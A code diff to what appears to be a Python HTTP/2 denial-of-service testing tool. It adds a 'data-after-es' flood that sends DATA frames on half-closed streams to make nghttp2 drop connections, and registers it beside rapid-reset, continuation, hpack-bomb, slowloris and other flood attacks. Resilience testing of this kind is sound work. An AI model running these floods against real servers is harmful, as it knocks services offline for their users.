@@ -180,6 +180,15 @@ def made_you_reset(args):
     two_phase_flood(args, "made-you-reset", kinds)
 
 
+def data_after_es(args):
+    """Complete GETs, then DATA on each (half-closed) stream: nghttp2 ends
+    the whole connection for it (a connection error, GOAWAY), with every
+    stream already sent upstream."""
+    get = wire.request_block(args.path)
+    kinds = [(get, True, lambda sid: wire.frame(wire.DATA, 0, sid, b"x"))]
+    two_phase_flood(args, "data-after-es", kinds)
+
+
 def continuation(args):
     junk = b"".join(wire.literal_new_name("x-junk-%d" % k, "j" * 200) for k in range(60))
 
@@ -455,7 +464,7 @@ def invalid(args):
 
 
 ATTACKS = {
-    "rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "slow-reset": slow_reset, "hold": hold, "zero-window": zero_window, "idle": idle,
+    "rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "slow-reset": slow_reset, "data-after-es": data_after_es, "hold": hold, "zero-window": zero_window, "idle": idle,
     "continuation": continuation, "settings-flood": settings_flood, "ping-flood": ping_flood,
     "hpack-bomb": hpack_bomb, "slowloris": slowloris, "invalid": invalid, "header-hold": header_hold,
     "busy": busy,
